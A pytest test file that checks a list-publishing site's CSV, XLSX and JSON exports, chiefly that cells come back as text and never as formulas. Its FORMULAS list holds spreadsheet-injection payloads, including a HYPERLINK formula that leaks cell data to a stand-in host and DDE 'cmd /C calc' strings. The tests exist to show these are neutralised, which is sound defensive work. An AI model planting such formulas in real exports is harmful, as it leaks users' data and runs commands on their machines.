"""A list goes out as CSV, XLSX and JSON and comes back whole, and no cell of it becomes a formula."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import Project
from gazette.exports.files import exported
from gazette.exports.table import Table, table_of
from gazette.model.dates import PartialDate
from gazette.views.approved_list import list_view
from gazette.views.common import Showing
from miniature import Miniature

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?leak="&A1,"看这里")',
    "+861000000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
)
PLAIN = ("甲市", "5G+工业互联网", "甲，乙", '他说"好"', "1", "007", "2099-01-01", "http://x.example/", "a'b")


def table(tmp_path: Path, rows: list[dict], **more) -> Table:
    """The table of a list of these rows, read from a file."""
    record = {
        "name": "2099年示例名单",
        "no_call": "逐个批复",
        "stage": "公布",
        "release": {"unstated": "编的"},
        "announced": "2099-06",
        "complete": True,
        "summary": ["编的。"],
        "sources": [{"title": "示例报", "evidence": "press"}],
        "rows": rows,
        **more,
    }
    project = Miniature(tmp_path)
    project.write("data/lists/2099-example-list.yml", yaml.dump(record, allow_unicode=True, sort_keys=False))
    catalogue = project.load()
    showing = Showing(catalogue, PartialDate("2099-07-01").start.date())
    return table_of(list_view(showing, catalogue.lists["2099-example-list"]), "https://site.example/")


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel knows UTF-8 by this mark"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))["名单"]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_a_text_stays_a_text(tmp_path: Path, text: str) -> None:
    files = exported(table(tmp_path, [{"label": text, "note": text, "groups": [text]}]))
    row = csv_rows(files["csv"])[0]
    for title in ("名称", "说明", "分组"):
        cell = row[title]
        assert not cell.startswith(tuple("=+-@\t\r＝＋－＠"))
        assert cell == (f"'{text}" if text in FORMULAS else text)
    cells = sheet(files["xlsx"])
    named = {cell.value: cells.cell(2, cell.column) for cell in cells[1]}
    for title in ("名称", "说明", "分组"):
        assert (named[title].value, named[title].data_type) == (text, "s")
        assert named[title].hyperlink is None
        assert bool(named[title].quotePrefix) == (text in FORMULAS)
    assert json.loads(files["json"])["rows"][0]["name"] == text


def test_tab_and_carriage_return_in_front_are_harmless_too() -> None:
    cells = [["\t=1+1", "\r=1+1", "\n=1+1"]]
    files = exported(Table(about={}, facts=[], titles=["=甲", "乙", "丙"], cells=cells, rows=[]))
    read = csv_rows(files["csv"])
    assert read == [{"'=甲": "'\t=1+1", "乙": "'\r=1+1", "丙": "'\n=1+1"}]
    assert [cell.data_type for row in sheet(files["xlsx"]).iter_rows() for cell in row] == ["s"] * 6


@pytest.mark.parametrize("figure", ["-12.50", "62.910", "0", "-3", "100", "0.001"])
def test_a_number_stays_a_number_with_its_digits(tmp_path: Path, figure: str) -> None:
    column = {"id": "change", "name": "增减", "unit": "%"}
    rows = [{"label": "甲市", "values": [{"indicator": "change", "number": figure}]}]
    files = exported(table(tmp_path, rows, columns=[column]))
    assert csv_rows(files["csv"])[0]["增减（%）"] == figure
    cell = sheet(files["xlsx"]).cell(2, 3 + 0)
    assert cell.data_type == "n" and cell.value == float(figure)
    assert len(cell.number_format.partition(".")[2]) == len(figure.partition(".")[2])
    assert json.loads(files["json"])["rows"][0]["values"] == {"change": {"number": figure}}


def test_a_number_longer_than_excel_keeps_is_written_as_text(tmp_path: Path) -> None:
    figure = "12345678901234567.89"
    rows = [{"label": "甲市", "values": [{"indicator": "n", "number": figure}]}]
    files = exported(table(tmp_path, rows, columns=[{"id": "n", "name": "数"}]))
    assert sheet(files["xlsx"]).cell(2, 3).value == figure


def test_everything_that_a_row_has_is_exported(tmp_path: Path) -> None:
    row = {
        "number": "3",
        "label": "丁产业集群",
        "places": ["990100", "990200"],
        "party": "consortium",
        "members": ["甲公司", "乙公司"],
        "status": "退出",
        "since": "2099-07-01",
        "until": {"on": "2100-06", "words": "次年六月"},
        "document": "示例〔2099〕3号",
        "groups": ["东片", "先进"],
        "values": [{"indicator": "level", "text": "较高"}],
        "note": "补报。",
    }
    files = exported(table(tmp_path, [row, {"label": "甲市"}], columns=[{"id": "level", "name": "水平"}]))
    first, second = csv_rows(files["csv"])
    assert first == {
        "序号": "3",
        "名称": "丁产业集群",
        "地区": "子省甲市、子省乙市",
        "区划代码": "990100、990200",
        "省份": "子省",
        "类型": "联合体",
        "成员": "甲公司、乙公司",
        "状态": "退出",
        "分组": "东片、先进",
        "自": "2099年7月1日",
        "至": "2100年6月（次年六月）",
        "依据": "示例〔2099〕3号",
        "水平": "较高",
        "说明": "补报。",
    }
    assert {title: cell for title, cell in second.items() if cell} == {"名称": "甲市", "类型": "地区"}
    told = json.loads(files["json"])
    assert told["page"] == "https://site.example/lists/2099-example-list/"
    assert (told["count"], told["stage"], told["announced"]["on"]) == (2, "公布", "2099-06")
    assert told["columns"] == [{"id": "level", "name": "水平"}]
    assert told["rows"][0] == {
        "number": "3",
        "name": "丁产业集群",
        "places": [
            {"id": "990100", "name": "甲市", "full_name": "子省甲市"},
            {"id": "990200", "name": "乙市", "full_name": "子省乙市"},
        ],
        "provinces": ["子省"],
        "party": {"id": "consortium", "name": "联合体"},
        "members": ["甲公司", "乙公司"],
        "status": "退出",
        "groups": ["东片", "先进"],
        "since": {"text": "2099年7月1日", "on": "2099-07-01"},
        "until": {"text": "2100年6月（次年六月）", "on": "2100-06", "words": "次年六月"},
        "document": "示例〔2099〕3号",
        "values": {"level": {"text": "较高"}},
        "note": "补报。",
    }
    about = openpyxl.load_workbook(io.BytesIO(files["xlsx"]))["说明"]
    assert {row[0].value: row[1].value for row in about.iter_rows()}["页面"].endswith("lists/2099-example-list/")


def test_two_thousand_rows_come_back_without_loss(tmp_path: Path) -> None:
    rows = [
        {
            "number": str(at),
            "label": f"第{at}号示例公司{'=' * (at % 2)}",
            "places": ["990100" if at % 3 else "990101"],
            "party": "enterprise",
            "values": [{"indicator": "income", "number": f"{at - 1000}.{at % 100:02}"}],
        }
        for at in range(1, 2001)
    ]
    files = exported(table(tmp_path, rows, columns=[{"id": "income", "name": "收入", "unit": "万元"}]))
    given = [(row["number"], row["label"], row["places"][0], row["values"][0]["number"]) for row in rows]
    assert [(r["序号"], r["名称"], r["区划代码"], r["收入（万元）"]) for r in csv_rows(files["csv"])] == given
    titles, *cells = sheet(files["xlsx"]).iter_rows(values_only=True)
    columns = [titles.index(title) for title in ("序号", "名称", "区划代码", "收入（万元）")]
    assert [tuple(row[at] for at in columns) for row in cells] == [(*row[:3], float(row[3])) for row in given]
    told = json.loads(files["json"])["rows"]
    assert [(r["number"], r["name"], r["places"][0]["id"], r["values"]["income"]["number"]) for r in told] == given


def test_the_same_list_gives_the_same_bytes(tmp_path: Path) -> None:
    rows = [{"label": "甲市", "places": ["990100"]}, {"label": "=乙"}]
    assert exported(table(tmp_path, rows)) == exported(table(tmp_path, rows))


def test_files_come_and_go_with_their_record(project) -> None:
    built: Project = project()
    built.built()
    folder = built.site / "lists" / "2098-example-list"
    names = [f"2098-example-list.{ending}" for ending in ("csv", "json", "xlsx")]
    beside = ["dates.ics", "feed.xml", "index.html", "record.json"]
    assert sorted(path.name for path in folder.iterdir()) == sorted([*names, *beside])
    built.replace("data/lists/2098-example-list.yml", "label: 甲市,", "label: 甲市（改）,")
    built.built()
    assert "甲市（改）" in (folder / names[0]).read_text("utf-8")
    (folder / names[2]).unlink()
    built.built()
    assert (folder / names[2]).is_file(), "what somebody removed is made again"
    shortlist = built.site / "lists" / "2098-example-shortlist"
    assert (shortlist / "2098-example-shortlist.csv").is_file()
    file = built.root / "data/lists/2098-example-shortlist.yml"
    file.write_text(file.read_text("utf-8") + 'withdrawn: {on: "2026-11-01", reason: 录错了。}\n', "utf-8")
    built.built()
    assert [path.name for path in shortlist.iterdir()] == ["index.html"], "what is withdrawn is not downloaded"
